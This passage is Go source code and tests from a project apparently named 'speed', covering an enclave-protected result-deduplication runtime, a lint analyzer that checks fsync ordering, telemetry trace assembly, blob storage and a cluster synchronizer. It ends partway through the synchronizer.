func (rt *Runtime) Execute(id mle.FuncID, input []byte, compute func([]byte) ([]byte, error)) ([]byte, Outcome, error) {
	rt.mu.Lock()
	if rt.closed {
		rt.mu.Unlock()
		return nil, 0, errors.New("dedup: runtime closed")
	}
	rt.stats.Calls++
	rt.mu.Unlock()

	var (
		result  []byte
		outcome Outcome
	)
	err := rt.cfg.Enclave.ECall(func() error {
		// Algorithm 1/2 line 1: derive the tag inside the enclave.
		tag := mle.ComputeTag(id, input)

		run := func() error { return rt.executeTagged(id, input, tag, compute, &result, &outcome) }

		// In-process coalescing: if the identical computation is
		// already in flight, wait for it and share its result instead
		// of racing it to the store.
		if rt.cfg.NoCoalesce {
			return run()
		}
		rt.flightMu.Lock()
		if f, ok := rt.inflight[tag]; ok {
			rt.flightMu.Unlock()
			<-f.done
			if f.err != nil {
				return f.err
			}
			result = append([]byte(nil), f.result...)
			outcome = OutcomeCoalesced
			rt.mu.Lock()
			rt.stats.Coalesced++
			rt.stats.BytesReused += int64(len(result))
			rt.mu.Unlock()
			return nil
		}
		f := &flight{done: make(chan struct{})}
		rt.inflight[tag] = f
		rt.flightMu.Unlock()

		ferr := run()
		f.result, f.outcome, f.err = result, outcome, ferr
		rt.flightMu.Lock()
		delete(rt.inflight, tag)
		rt.flightMu.Unlock()
		close(f.done)
		return ferr
	})
	if err != nil {
		return nil, 0, err
	}
	return result, outcome, nil
}

// executeTagged runs the store lookup / verify / compute / upload path
// for an already-derived tag, writing the result and outcome through
// the provided pointers. It runs inside the application enclave.
func (rt *Runtime) executeTagged(id mle.FuncID, input []byte, tag mle.Tag, compute func([]byte) ([]byte, error), resultOut *[]byte, outcomeOut *Outcome) error {
	// Line 2: query the store via an OCALL (the runtime's customized
	// OCALL wrapping request and networking logic).
	var (
		sealed mle.Sealed
		found  bool
	)
	err := rt.cfg.Enclave.OCall(func() error {
		var gerr error
		sealed, found, gerr = rt.cfg.Client.Get(tag)
		return gerr
	})
	if err != nil {
		return fmt.Errorf("query store: %w", err)
	}

	hadPoisonedEntry := false
	if found {
		// Algorithm 2 lines 4-6 + Fig. 3 verification.
		res, derr := rt.cfg.Scheme.Decrypt(id, input, sealed)
		if derr == nil {
			*resultOut = res
			*outcomeOut = OutcomeReused
			rt.mu.Lock()
			rt.stats.Reused++
			rt.stats.BytesReused += int64(len(res))
			rt.mu.Unlock()
			return nil
		}
		if !errors.Is(derr, mle.ErrAuthFailed) {
			return fmt.Errorf("decrypt result: %w", derr)
		}
		// ⊥: the stored entry is poisoned/corrupted or belongs to a
		// computation we cannot perform. Fall back to computing.
		hadPoisonedEntry = true
		rt.mu.Lock()
		rt.stats.VerifyFailures++
		rt.mu.Unlock()
	}

	// Algorithm 1 line 4: compute the result inside the enclave.
	res, cerr := compute(input)
	if cerr != nil {
		return cerr
	}
	*resultOut = res
	if hadPoisonedEntry {
		*outcomeOut = OutcomeRecomputed
	} else {
		*outcomeOut = OutcomeComputed
	}
	rt.mu.Lock()
	rt.stats.Computed++
	rt.mu.Unlock()

	// Algorithm 1 lines 5-10: protect and upload the result. A
	// recomputation replaces the stored entry that failed
	// verification, so a poisoned entry cannot permanently disable
	// reuse for its tag.
	replace := hadPoisonedEntry
	if rt.cfg.AsyncPut {
		rt.enqueuePut(putJob{id: id, input: input, result: res, tag: tag, replace: replace})
		return nil
	}
	if perr := rt.sealAndPut(id, input, res, tag, replace); perr != nil {
		// A failed upload only loses future reuse; the caller still
		// gets its freshly computed result.
		rt.notePutError(perr)
	}
	return nil
}

// sealAndPut encrypts the result (RCE: random key, challenge, wrap) and
// uploads (t, r, [k], [res]) via an OCALL.
func (rt *Runtime) sealAndPut(id mle.FuncID, input, result []byte, tag mle.Tag, replace bool) error {
	sealed, err := rt.cfg.Scheme.Encrypt(id, input, result)
	if err != nil {
		return fmt.Errorf("encrypt result: %w", err)
	}
	return rt.cfg.Enclave.OCall(func() error {
		return rt.cfg.Client.Put(tag, sealed, replace)
	})
}

func (rt *Runtime) enqueuePut(job putJob) {
	select {
	case rt.putCh <- job:
	default:
		// Queue full: drop the upload rather than stall the caller.
		rt.notePutError(errors.New("dedup: put queue full"))
	}
}

func (rt *Runtime) putWorker() {
	defer close(rt.done)
	for {
		select {
		case job := <-rt.putCh:
			rt.runPutJob(job)
		case <-rt.stop:
			// Drain what is already queued, then exit.
			for {
				select {
				case job := <-rt.putCh:
					rt.runPutJob(job)
				default:
					return
				}
			}
		}
	}
}

func (rt *Runtime) runPutJob(job putJob) {
	err := rt.cfg.Enclave.ECall(func() error {
		return rt.sealAndPut(job.id, job.input, job.result, job.tag, job.replace)
	})
	if err != nil {
		rt.notePutError(err)
	}
}

func (rt *Runtime) notePutError(err error) {
	rt.mu.Lock()
	rt.stats.PutErrors++
	rt.mu.Unlock()
	rt.cfg.Logf("speed: put failed: %v", err)
}
