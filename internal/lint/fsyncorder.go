package lint

import (
	"go/ast"
	"go/token"
	"sort"
)

// FsyncOrderAnalyzer machine-checks the durability ordering the
// log-structured engine's crash-recovery argument rests on: content
// must be durable before the commit point that makes it reachable, and
// the commit point itself must be made durable before success is
// reported. Four CFG-based rules, scoped to the storage packages
// (store, logengine):
//
//   - Rule A — every os.Rename (the commit primitive) must be
//     dominated by a file fsync: the bytes being committed must be on
//     disk before the name points at them.
//   - Rule B — every os.Rename must be followed by a directory fsync
//     on all non-error paths: the rename itself is not durable until
//     the directory entry is.
//   - Rule C — a call to a commit helper (a package-local callee whose
//     summary renames) made after segment-writer calls (callees that
//     write and fsync a new file) must be dominated by a directory
//     fsync: the new file's directory entry must be durable before the
//     manifest references it.
//   - Rule D — a function that writes file content directly must fsync
//     it before any non-error return: un-synced acknowledged writes
//     are the silent-loss window. (The WAL append deliberately defers
//     this to the engine's fsync policy — that one site carries a
//     justified ignore directive.)
//
// Error-path returns (final result an identifier other than nil, or a
// call) are exempt from B and D: failing loudly without durability is
// correct; succeeding without it is the bug.
var FsyncOrderAnalyzer = &Analyzer{
	Name: "fsyncorder",
	Doc:  "storage commit points need fsync-before-rename and dirsync-after-rename on all success paths",
	Run:  runFsyncOrder,
}

// fsyncScope are the package names the durability rules apply to.
var fsyncScope = map[string]bool{"store": true, "logengine": true}

// fsEventKind classifies a durability-relevant call site.
type fsEventKind uint8

const (
	evWrite     fsEventKind = 1 << iota // file content write
	evSync                              // file fsync
	evDirSync                           // directory fsync
	evRename                            // os.Rename commit
	evCommit                            // call to a renames-summarised callee
	evSegWriter                         // call to a write+fsync callee (new-file writer)
)

// fsEvent is one classified call at a CFG position.
type fsEvent struct {
	block int // block index
	node  int // node index within the block
	seq   int // ordinal within the node (source order)
	kind  fsEventKind
	call  *ast.CallExpr
}

func runFsyncOrder(pass *Pass) {
	pkg := pass.Pkg
	if pkg.Types == nil || !fsyncScope[pkg.Types.Name()] {
		return
	}
	g := buildCallGraph(pkg)
	for _, n := range g.order {
		checkFsyncOrder(pass, g, n)
		ast.Inspect(n.decl.Body, func(x ast.Node) bool {
			if lit, ok := x.(*ast.FuncLit); ok {
				checkFsyncOrderBody(pass, g, buildCFG(lit.Body), dirSyncShaped(n.decl.Name.Name))
			}
			return true
		})
	}
}

func checkFsyncOrder(pass *Pass, g *callGraph, n *funcNode) {
	checkFsyncOrderBody(pass, g, n.summary.cfg, dirSyncShaped(n.decl.Name.Name))
}

func checkFsyncOrderBody(pass *Pass, g *callGraph, cfg *funcCFG, inDirSyncHelper bool) {
	events := collectFsEvents(g, cfg, inDirSyncHelper)
	if len(events) == 0 {
		return
	}

	// Rule A: renames dominated by a file fsync.
	for _, r := range events {
		if r.kind&evRename == 0 {
			continue
		}
		if !eventDominated(cfg, events, r, evSync|evDirSync) {
			pass.Reportf(r.call.Pos(), "os.Rename commit is not preceded by a file fsync on every path; the renamed content may not be durable")
		}
	}

	// Rule B: renames followed by a directory fsync on all non-error
	// paths.
	for _, r := range events {
		if r.kind&evRename == 0 {
			continue
		}
		if pos, ok := firstUnsyncedExit(cfg, events, r); ok {
			pass.Reportf(pos, "success path after os.Rename returns without a directory fsync; the commit may vanish on crash")
		}
	}

	// Rule C: commit-helper calls after segment-writer calls need a
	// dominating directory fsync.
	for _, c := range events {
		if c.kind&evCommit == 0 {
			continue
		}
		if !eventDominated(cfg, events, c, evSegWriter) {
			continue // nothing new on disk to make reachable
		}
		if !eventDominated(cfg, events, c, evDirSync) {
			pass.Reportf(c.call.Pos(), "commit call follows a segment write without an intervening directory fsync; the new file's directory entry may not be durable at commit")
		}
	}

	// Rule D: direct writes fsynced before non-error returns.
	checkDirtyReturns(pass, cfg, events)
}

// collectFsEvents classifies every call in the CFG. Calls inside
// FuncLits are excluded (separate analysis units).
func collectFsEvents(g *callGraph, cfg *funcCFG, inDirSyncHelper bool) []fsEvent {
	var events []fsEvent
	for _, blk := range cfg.blocks {
		for ni, node := range blk.nodes {
			seq := 0
			ast.Inspect(node, func(x ast.Node) bool {
				if _, ok := x.(*ast.FuncLit); ok {
					return false
				}
				call, ok := x.(*ast.CallExpr)
				if !ok {
					return true
				}
				var kind fsEventKind
				switch {
				case isFileWriteCall(g.pkg, call):
					kind |= evWrite
				case isFileSyncCall(g.pkg, call):
					if inDirSyncHelper {
						kind |= evDirSync
					} else {
						kind |= evSync
					}
				case isRenameCall(g.pkg, call):
					kind |= evRename
				}
				if callee := g.resolve(call); callee != nil {
					cs := callee.summary
					if cs.syncsDir {
						kind |= evDirSync
					}
					if cs.syncs {
						kind |= evSync
					}
					if cs.renames {
						kind |= evCommit
					}
					if cs.writesFile && cs.syncs && !cs.syncsDir && !cs.renames {
						kind |= evSegWriter
					}
				}
				if kind != 0 {
					events = append(events, fsEvent{
						block: blk.index, node: ni, seq: seq, kind: kind, call: call,
					})
				}
				seq++
				return true
			})
		}
	}
	sort.Slice(events, func(i, j int) bool {
		if events[i].block != events[j].block {
			return events[i].block < events[j].block
		}
		if events[i].node != events[j].node {
			return events[i].node < events[j].node
		}
		return events[i].seq < events[j].seq
	})
	return events
}

// eventDominated reports whether some event of the wanted kind
// dominates target: it sits in a strictly dominating block, or earlier
// within the same block.
func eventDominated(cfg *funcCFG, events []fsEvent, target fsEvent, want fsEventKind) bool {
	for _, e := range events {
		if e.kind&want == 0 || e.call == target.call {
			continue
		}
		if e.block == target.block {
			if e.node < target.node || (e.node == target.node && e.seq < target.seq) {
				return true
			}
			continue
		}
		if cfg.dominates(cfg.blocks[e.block], cfg.blocks[target.block]) {
			return true
		}
	}
	return false
}

// firstUnsyncedExit walks forward from a rename event looking for a
// non-error exit not preceded by a directory fsync, returning its
// position.
func firstUnsyncedExit(cfg *funcCFG, events []fsEvent, r fsEvent) (pos token.Pos, found bool) {
	// eventsAt indexes events by (block, node) for the walk.
	type nodeKey struct{ block, node int }
	byNode := make(map[nodeKey][]fsEvent)
	for _, e := range events {
		k := nodeKey{e.block, e.node}
		byNode[k] = append(byNode[k], e)
	}

	visited := newBitset(len(cfg.blocks))
	var walk func(blk *cfgBlock, startNode, startSeq int) (token.Pos, bool)
	walk = func(blk *cfgBlock, startNode, startSeq int) (token.Pos, bool) {
		for ni := startNode; ni < len(blk.nodes); ni++ {
			for _, e := range byNode[nodeKey{blk.index, ni}] {
				if ni == startNode && e.seq < startSeq {
					continue
				}
				if e.kind&evDirSync != 0 {
					return 0, false // this path is covered
				}
			}
			if ret, ok := blk.nodes[ni].(*ast.ReturnStmt); ok {
				if nonErrorReturn(ret) {
					return ret.Pos(), true
				}
				return 0, false // error path: failing loudly is fine
			}
		}
		if blk == cfg.exit {
			// Fell off the end of the function after the rename.
			return r.call.End(), true
		}
		for _, s := range blk.succs {
			if visited.has(s.index) {
				continue
			}
			visited.set(s.index)
			if p, ok := walk(s, 0, 0); ok {
				return p, true
			}
		}
		return 0, false
	}
	return walk(cfg.blocks[r.block], r.node, r.seq+1)
}

// nonErrorReturn reports whether ret is a success-path return: no
// results, or a final result that is literally nil. Returns whose
// final result is a variable or call are treated as possible error
// paths and exempt — the rules police success, not failure.
func nonErrorReturn(ret *ast.ReturnStmt) bool {
	if len(ret.Results) == 0 {
		return true
	}
	last := ast.Unparen(ret.Results[len(ret.Results)-1])
	id, ok := last.(*ast.Ident)
	return ok && id.Name == "nil"
}

// checkDirtyReturns is rule D: a forward boolean dataflow over the CFG
// tracking "wrote file content not yet fsynced"; non-error returns in
// the dirty state are reported.
func checkDirtyReturns(pass *Pass, cfg *funcCFG, events []fsEvent) {
	hasDirect := false
	for _, e := range events {
		if e.kind&evWrite != 0 {
			hasDirect = true
			break
		}
	}
	if !hasDirect {
		return
	}
	type nodeKey struct{ block, node int }
	byNode := make(map[nodeKey][]fsEvent)
	for _, e := range events {
		k := nodeKey{e.block, e.node}
		byNode[k] = append(byNode[k], e)
	}

	transferNode := func(dirty bool, blockIdx, nodeIdx int) bool {
		for _, e := range byNode[nodeKey{blockIdx, nodeIdx}] {
			if e.kind&(evSync|evDirSync) != 0 {
				dirty = false
			}
			if e.kind&evWrite != 0 {
				dirty = true
			}
		}
		return dirty
	}

	in := make([]bool, len(cfg.blocks))
	seen := make([]bool, len(cfg.blocks))
	seen[cfg.entry.index] = true
	work := []*cfgBlock{cfg.entry}
	for len(work) > 0 {
		blk := work[len(work)-1]
		work = work[:len(work)-1]
		dirty := in[blk.index]
		for ni := range blk.nodes {
			dirty = transferNode(dirty, blk.index, ni)
		}
		for _, s := range blk.succs {
			if !seen[s.index] || (dirty && !in[s.index]) {
				seen[s.index] = true
				in[s.index] = in[s.index] || dirty
				work = append(work, s)
			}
		}
	}

	reported := map[*ast.ReturnStmt]bool{}
	for _, blk := range cfg.blocks {
		if !seen[blk.index] {
			continue
		}
		dirty := in[blk.index]
		for ni, node := range blk.nodes {
			dirty = transferNode(dirty, blk.index, ni)
			ret, ok := node.(*ast.ReturnStmt)
			if !ok || reported[ret] {
				continue
			}
			if dirty && nonErrorReturn(ret) {
				reported[ret] = true
				pass.Reportf(ret.Pos(), "file content written here is not fsynced before this success return; an acknowledged write may be lost on crash")
			}
		}
	}
}
