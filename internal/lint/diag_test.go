package lint_test

import (
	"encoding/json"
	"testing"

	"speed/internal/lint"
)

func TestDiagnosticString(t *testing.T) {
	d := lint.Diagnostic{
		File:     "internal/mle/ops.go",
		Line:     36,
		Col:      2,
		Analyzer: "keyzero",
		Message:  "h holds key material",
	}
	want := "internal/mle/ops.go:36: [keyzero] h holds key material"
	if got := d.String(); got != want {
		t.Errorf("String() = %q, want %q", got, want)
	}
}

func TestDiagnosticJSON(t *testing.T) {
	d := lint.Diagnostic{
		File:     "internal/wire/channel.go",
		Line:     423,
		Col:      9,
		Analyzer: "keyzero",
		Message:  `shared "secret" not zeroized`,
	}
	line := d.JSON()
	var back lint.Diagnostic
	if err := json.Unmarshal([]byte(line), &back); err != nil {
		t.Fatalf("JSON() produced invalid JSON %q: %v", line, err)
	}
	if back != d {
		t.Errorf("round trip mismatch: %+v != %+v", back, d)
	}
	// One finding per line: embedded newlines would break the protocol.
	for _, c := range line {
		if c == '\n' {
			t.Errorf("JSON() contains a newline: %q", line)
		}
	}
}
