package fleet

import (
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"speed/internal/telemetry"
)

func TestParsePromSamplesAndLabels(t *testing.T) {
	text := `# HELP speed_store_gets_total GET requests
# TYPE speed_store_gets_total counter
speed_store_gets_total 41
speed_store_hits_total{app="demo"} 17
speed_store_hits_total{app="other"} 3
speed_server_request_seconds_bucket{le="0.001"} 90
speed_server_request_seconds_bucket{le="0.016"} 99
speed_server_request_seconds_bucket{le="+Inf"} 100
speed_server_request_seconds_sum 0.42
speed_server_request_seconds_count 100
garbage line without a number value
`
	m, err := ParseProm(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	if got := m.Sum("speed_store_gets_total"); got != 41 {
		t.Fatalf("gets = %v, want 41", got)
	}
	if got := m.Sum("speed_store_hits_total"); got != 20 {
		t.Fatalf("hits summed across label sets = %v, want 20", got)
	}
	if m.Has("speed_nonexistent") {
		t.Fatal("Has() true for absent family")
	}
	p50, ok := m.Quantile("speed_server_request_seconds", 0.50)
	if !ok || p50 != 0.001 {
		t.Fatalf("p50 = %v,%v, want 0.001", p50, ok)
	}
	p99, ok := m.Quantile("speed_server_request_seconds", 0.99)
	if !ok || p99 != 0.016 {
		t.Fatalf("p99 = %v,%v, want 0.016", p99, ok)
	}
	// Rank 100 lands in +Inf: reported as the last finite bound.
	p100, ok := m.Quantile("speed_server_request_seconds", 1)
	if !ok || p100 != 0.016 {
		t.Fatalf("p100 = %v,%v, want 0.016 floor", p100, ok)
	}
}

func TestLabelValue(t *testing.T) {
	labels := `app="demo",le="0.25",node="127.0.0.1:7800"`
	for _, tc := range []struct {
		key, want string
		ok        bool
	}{
		{"le", "0.25", true},
		{"app", "demo", true},
		{"node", "127.0.0.1:7800", true},
		{"missing", "", false},
		{"e", "", false}, // must not match the tail of "le"
	} {
		got, ok := labelValue(labels, tc.key)
		if got != tc.want || ok != tc.ok {
			t.Errorf("labelValue(%q) = %q,%v, want %q,%v", tc.key, got, ok, tc.want, tc.ok)
		}
	}
}

// traceEvents builds the spans three nodes would record for one
// cross-node call: client root -> router leg -> store span, plus a
// second leg that failed over.
func traceEvents(traceID string) (client, store1, store2 []telemetry.TraceEvent) {
	t0 := time.Date(2026, 8, 8, 12, 0, 0, 0, time.UTC)
	client = []telemetry.TraceEvent{
		{Time: t0, Name: "execute", TraceID: traceID, SpanID: "aaaa", Node: "app:9090", TotalNS: 4e6},
		{Time: t0, Name: "route_get", TraceID: traceID, SpanID: "bbbb", ParentID: "aaaa", Node: "app:9090", TotalNS: 2e6, Err: "connection refused"},
		{Time: t0.Add(time.Millisecond), Name: "route_get", TraceID: traceID, SpanID: "cccc", ParentID: "aaaa", Node: "app:9090", TotalNS: 1e6, Outcome: "hit"},
	}
	store1 = []telemetry.TraceEvent{
		{Time: t0.Add(2 * time.Millisecond), Name: "store_get", TraceID: traceID, SpanID: "dddd", ParentID: "cccc", Node: "store1:9091", TotalNS: 5e5},
	}
	store2 = []telemetry.TraceEvent{
		// Unrelated trace on the same node must not join this tree.
		{Time: t0, Name: "store_put", TraceID: "ffff", SpanID: "eeee", Node: "store2:9092", TotalNS: 1e5},
	}
	return
}

func TestAssembleLinksSpansAcrossNodes(t *testing.T) {
	const id = "0123456789abcdef0123456789abcdef"
	client, store1, store2 := traceEvents(id)
	traces := Assemble([]NodeStatus{
		{Addr: "app:9090", Events: client},
		{Addr: "store1:9091", Events: store1},
		{Addr: "store2:9092", Events: store2},
		// The same node polled again: duplicates must collapse.
		{Addr: "store1:9091", Events: store1},
	})
	if len(traces) != 2 {
		t.Fatalf("assembled %d traces, want 2", len(traces))
	}
	tr := traces[0] // slowest first: the 4ms execute trace
	if tr.ID != id {
		t.Fatalf("slowest trace = %s, want %s", tr.ID, id)
	}
	if tr.Spans != 4 {
		t.Fatalf("spans = %d, want 4 (duplicate poll must collapse)", tr.Spans)
	}
	if !tr.Complete() {
		t.Fatalf("trace incomplete: root=%v orphans=%d", tr.Root, len(tr.Orphans))
	}
	if tr.Root.Event.Name != "execute" {
		t.Fatalf("root = %s, want execute", tr.Root.Event.Name)
	}
	if len(tr.Root.Children) != 2 {
		t.Fatalf("root children = %d, want 2 legs", len(tr.Root.Children))
	}
	// Children sorted by time: failed leg first, then the hit leg
	// carrying the store span.
	hitLeg := tr.Root.Children[1]
	if hitLeg.Event.Outcome != "hit" || len(hitLeg.Children) != 1 {
		t.Fatalf("hit leg = %+v with %d children, want store child", hitLeg.Event, len(hitLeg.Children))
	}
	if got := hitLeg.Children[0].Event; got.Name != "store_get" || got.Node != "store1:9091" {
		t.Fatalf("store span = %+v", got)
	}
	if tr.Total() != 4*time.Millisecond {
		t.Fatalf("total = %s, want 4ms", tr.Total())
	}
}

func TestAssembleOrphansWhenParentMissing(t *testing.T) {
	const id = "11112222333344445555666677778888"
	traces := Assemble([]NodeStatus{{
		Addr: "store1:9091",
		Events: []telemetry.TraceEvent{
			{Name: "store_get", TraceID: id, SpanID: "dddd", ParentID: "gone", Node: "store1:9091", TotalNS: 7e5},
		},
	}})
	if len(traces) != 1 {
		t.Fatalf("traces = %d, want 1", len(traces))
	}
	tr := traces[0]
	if tr.Complete() || tr.Root != nil || len(tr.Orphans) != 1 {
		t.Fatalf("want rootless orphan trace, got root=%v orphans=%d", tr.Root, len(tr.Orphans))
	}
	if tr.Total() != 700*time.Microsecond {
		t.Fatalf("total from orphan = %s", tr.Total())
	}
}

func TestPollNodeScrapesRegistryEndpoints(t *testing.T) {
	reg := telemetry.NewRegistry()
	reg.SetNode("store1:7800")
	reg.NewCounter("speed_store_gets_total", "").Add(10)
	reg.NewCounter("speed_store_hits_total", "").Add(4)
	reg.NewCounter("speed_wire_auth_failures_total", "").Add(2)
	h := reg.NewHistogram("speed_server_request_seconds", "")
	for i := 0; i < 100; i++ {
		h.Observe(100 * time.Microsecond)
	}
	reg.Trace().Add(telemetry.TraceEvent{
		Name: "store_get", TraceID: "abcd", SpanID: "1", Node: "store1:7800",
	})
	srv := httptest.NewServer(reg.Handler())
	defer srv.Close()

	var p Poller
	st := p.PollNode(srv.URL)
	if st.Err != nil {
		t.Fatal(st.Err)
	}
	if st.Gets != 10 || st.Hits != 4 || st.AuthFailures != 2 {
		t.Fatalf("counters = %+v", st)
	}
	if got := st.HitRate(); got != 0.4 {
		t.Fatalf("hit rate = %v, want 0.4", got)
	}
	if st.P99 <= 0 || st.P99 > 10*time.Millisecond {
		t.Fatalf("p99 = %s, want within a bucket of 100µs", st.P99)
	}
	if len(st.Events) != 1 || st.Events[0].TraceID != "abcd" {
		t.Fatalf("events = %+v", st.Events)
	}
	if st.TraceTotal != 1 {
		t.Fatalf("trace total = %d", st.TraceTotal)
	}
}

func TestRenderSmoke(t *testing.T) {
	const id = "0123456789abcdef0123456789abcdef"
	client, store1, store2 := traceEvents(id)
	sts := []NodeStatus{
		{Addr: "app:9090", Events: client, Gets: 100, Hits: 80, P99: 3 * time.Millisecond},
		{Addr: "store1:9091", Events: store1},
		{Addr: "store2:9092", Events: store2, Err: errPoll{}},
	}
	var sb strings.Builder
	RenderStatus(&sb, sts)
	RenderTraces(&sb, Assemble(sts[:2]), 3)
	out := sb.String()
	for _, want := range []string{"app:9090", "DOWN", "80.0%", id, "execute", "store_get", "@store1:9091"} {
		if !strings.Contains(out, want) {
			t.Fatalf("render output missing %q:\n%s", want, out)
		}
	}
}

type errPoll struct{}

func (errPoll) Error() string { return "dial tcp: connection refused" }
