package store

import (
	"bytes"
	"fmt"
	"sync"
	"testing"
	"testing/quick"
)

func testBlobStores(t *testing.T) map[string]BlobStore {
	t.Helper()
	disk, err := NewDiskBlobStore(t.TempDir())
	if err != nil {
		t.Fatalf("NewDiskBlobStore: %v", err)
	}
	return map[string]BlobStore{
		"mem":  NewMemBlobStore(),
		"disk": disk,
	}
}

func TestBlobStorePutGetDelete(t *testing.T) {
	for name, bs := range testBlobStores(t) {
		t.Run(name, func(t *testing.T) {
			data := []byte("ciphertext payload")
			id, err := bs.Put(data)
			if err != nil {
				t.Fatalf("Put: %v", err)
			}
			got, err := bs.Get(id)
			if err != nil {
				t.Fatalf("Get: %v", err)
			}
			if !bytes.Equal(got, data) {
				t.Errorf("Get = %q, want %q", got, data)
			}
			if bs.Bytes() != int64(len(data)) {
				t.Errorf("Bytes = %d, want %d", bs.Bytes(), len(data))
			}
			if err := bs.Delete(id); err != nil {
				t.Fatalf("Delete: %v", err)
			}
			if _, err := bs.Get(id); err == nil {
				t.Error("Get after Delete succeeded")
			}
			if bs.Bytes() != 0 {
				t.Errorf("Bytes after Delete = %d, want 0", bs.Bytes())
			}
			// Deleting again is a no-op.
			if err := bs.Delete(id); err != nil {
				t.Errorf("double Delete: %v", err)
			}
		})
	}
}

func TestBlobStoreGetUnknown(t *testing.T) {
	for name, bs := range testBlobStores(t) {
		t.Run(name, func(t *testing.T) {
			if _, err := bs.Get(BlobID(999)); err == nil {
				t.Error("Get of unknown id succeeded")
			}
		})
	}
}

func TestMemBlobStoreIsolation(t *testing.T) {
	bs := NewMemBlobStore()
	data := []byte("original")
	id, err := bs.Put(data)
	if err != nil {
		t.Fatalf("Put: %v", err)
	}
	data[0] = 'X' // caller mutates its buffer after Put
	got, err := bs.Get(id)
	if err != nil {
		t.Fatalf("Get: %v", err)
	}
	if string(got) != "original" {
		t.Errorf("Put did not copy: got %q", got)
	}
	got[0] = 'Y' // caller mutates the returned buffer
	again, err := bs.Get(id)
	if err != nil {
		t.Fatalf("Get: %v", err)
	}
	if string(again) != "original" {
		t.Errorf("Get did not copy: got %q", again)
	}
}

func TestBlobStoreConcurrent(t *testing.T) {
	bs := NewMemBlobStore()
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				data := []byte(fmt.Sprintf("w%d-i%d", w, i))
				id, err := bs.Put(data)
				if err != nil {
					t.Errorf("Put: %v", err)
					return
				}
				got, err := bs.Get(id)
				if err != nil || !bytes.Equal(got, data) {
					t.Errorf("Get = %q, %v; want %q", got, err, data)
					return
				}
				if err := bs.Delete(id); err != nil {
					t.Errorf("Delete: %v", err)
					return
				}
			}
		}(w)
	}
	wg.Wait()
	if bs.Bytes() != 0 {
		t.Errorf("Bytes = %d, want 0 after balanced put/delete", bs.Bytes())
	}
}

// Property: any payload round-trips through either blob store.
func TestQuickBlobRoundTrip(t *testing.T) {
	mem := NewMemBlobStore()
	prop := func(data []byte) bool {
		id, err := mem.Put(data)
		if err != nil {
			return false
		}
		got, err := mem.Get(id)
		if err != nil {
			return false
		}
		return bytes.Equal(got, data)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

func TestDiskBlobStorePersistsAcrossHandles(t *testing.T) {
	dir := t.TempDir()
	bs1, err := NewDiskBlobStore(dir)
	if err != nil {
		t.Fatalf("NewDiskBlobStore: %v", err)
	}
	id, err := bs1.Put([]byte("persisted"))
	if err != nil {
		t.Fatalf("Put: %v", err)
	}
	// A second handle over the same directory reads the same file (ids
	// are per-handle, so use the same id value).
	bs2, err := NewDiskBlobStore(dir)
	if err != nil {
		t.Fatalf("NewDiskBlobStore: %v", err)
	}
	got, err := bs2.Get(id)
	if err != nil {
		t.Fatalf("Get via new handle: %v", err)
	}
	if string(got) != "persisted" {
		t.Errorf("Get = %q, want %q", got, "persisted")
	}
}
