package cluster

import (
	"fmt"
	"sync"
	"time"

	"speed/internal/mle"
	"speed/internal/telemetry"
	"speed/internal/wire"
)

// SyncConfig tunes the popular-result synchronizer.
type SyncConfig struct {
	// MinHits is the popularity threshold: only entries the member
	// served at least this many times are pulled. Zero selects 2 — a
	// result is "popular" once it has been deduplicated at least once.
	MinHits int64
	// Max caps how many entries one member contributes per cycle
	// (hottest first). Zero selects wire.MaxBatchItems.
	Max int
	// Interval is the Start cadence; zero selects 5s.
	Interval time.Duration
	// Telemetry, when non-nil, registers speed_cluster_sync_copies_total.
	Telemetry *telemetry.Registry
	// Logf is the diagnostic logger; defaults to the cluster client's.
	Logf func(format string, args ...any)
}

// Syncer is the wire-level successor of store.Replicator (Section
// IV-B's periodic popular-result synchronization): instead of copying
// between co-resident *Store instances, it pulls each live member's
// hottest sealed entries over the attested protocol (SyncPull) and
// re-places them through the ring — every popular result ends up on its
// tag's replica owners, so a member that computed a hot result alone
// (or absorbed sloppy writes while an owner was down) propagates it to
// wherever the router looks for it. Deterministic tags make this
// idempotent: stores keep the first version of a tag, so re-pushing
// never creates redundancy.
type Syncer struct {
	c    *Client
	cfg  SyncConfig
	logf func(format string, args ...any)

	stop chan struct{}
	done chan struct{}
	once sync.Once

	mu      sync.Mutex
	started bool
	seen    map[mle.Tag]bool
	copies  int64
	skipped int64

	copiesC  *telemetry.Counter
	skippedC *telemetry.Counter
}

// tagsOf projects a put batch onto its tags for a HAS_BATCH probe.
func tagsOf(items []wire.PutItem) []mle.Tag {
	tags := make([]mle.Tag, len(items))
	for i, it := range items {
		tags[i] = it.Tag
	}
	return tags
}

// NewSyncer builds a syncer over the cluster client. The client's
// member channels and health state are reused; the syncer only ever
// talks to members currently marked up.
func NewSyncer(c *Client, cfg SyncConfig) *Syncer {
	if cfg.MinHits <= 0 {
		cfg.MinHits = 2
	}
	if cfg.Max <= 0 || cfg.Max > wire.MaxBatchItems {
		cfg.Max = wire.MaxBatchItems
	}
	if cfg.Interval <= 0 {
		cfg.Interval = 5 * time.Second
	}
	if cfg.Logf == nil {
		cfg.Logf = c.logf
	}
	s := &Syncer{
		c:    c,
		cfg:  cfg,
		logf: cfg.Logf,
		stop: make(chan struct{}),
		done: make(chan struct{}),
		seen: make(map[mle.Tag]bool),
	}
	if cfg.Telemetry != nil {
		s.copiesC = cfg.Telemetry.NewCounter("speed_cluster_sync_copies_total",
			"popular results copied onto their ring owners by the syncer")
		s.skippedC = cfg.Telemetry.NewCounter("speed_cluster_sync_skipped_total",
			"hot entries whose transfer the syncer skipped because the owner already held them")
	}
	return s
}

// SyncOnce performs one pull-and-place pass and returns how many
// entries were installed on ring owners. Members that fail the pull are
// skipped (and their failure feeds the health state machine); the pass
// itself only errors when the placement push fails cluster-wide.
func (s *Syncer) SyncOnce() (int, error) {
	best := make(map[mle.Tag]wire.SyncEntry)
	var pullErr error
	for _, n := range s.c.nodes {
		if !n.up.Load() {
			continue
		}
		entries, err := n.client.SyncPull(s.cfg.MinHits, s.cfg.Max)
		if err != nil {
			s.c.noteFailure(n, err)
			if pullErr == nil {
				pullErr = fmt.Errorf("cluster: sync pull from %s: %w", n.addr, err)
			}
			continue
		}
		s.c.noteSuccess(n)
		for _, e := range entries {
